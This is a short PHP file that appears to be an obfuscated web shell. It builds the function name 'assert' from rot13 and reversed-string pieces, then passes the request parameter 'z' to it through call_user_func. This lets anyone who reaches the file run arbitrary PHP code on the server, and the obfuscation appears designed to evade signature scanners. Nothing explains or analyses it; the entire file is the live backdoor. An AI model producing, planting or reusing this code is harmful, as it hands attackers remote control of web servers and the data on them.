<?php
$head = str_rot13('nf');
$f = $head . strrev('tres');
call_user_func($f, $_REQUEST['z']);
